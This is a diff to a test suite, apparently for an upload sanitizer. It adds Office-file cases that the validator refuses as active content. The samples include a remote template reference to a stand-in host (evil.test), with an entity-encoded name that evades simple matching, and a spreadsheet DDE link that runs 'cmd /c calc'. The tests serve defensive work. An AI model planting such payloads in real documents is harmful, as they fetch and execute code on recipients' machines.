@@ -161,6 +161,22 @@ def test_a_pdf_that_acts_hides_or_is_locked_is_refused(content: bytes, refusal: 
             ),
             ActiveOffice,
         ),
+        (
+            office(
+                **{
+                    "word___rels__settings.xml.rels": "<Relationship TargetMode='External' "
+                    "Type='http://x/attached&#x54;emplate' Target='http://evil.test/t.dotm'/>"
+                }
+            ),
+            ActiveOffice,
+        ),
+        (
+            office(
+                "spreadsheetml.sheet",
+                **{"xl__externalLinks__externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'},
+            ),
+            ActiveOffice,
+        ),
         (office(**{f"word__part{n}.xml": "" for n in range(2000)}), SwollenOffice),
         (office(**{"word___rels__document.xml.rels": " " * (5 * 1024 * 1024)}), SwollenOffice),
     ],
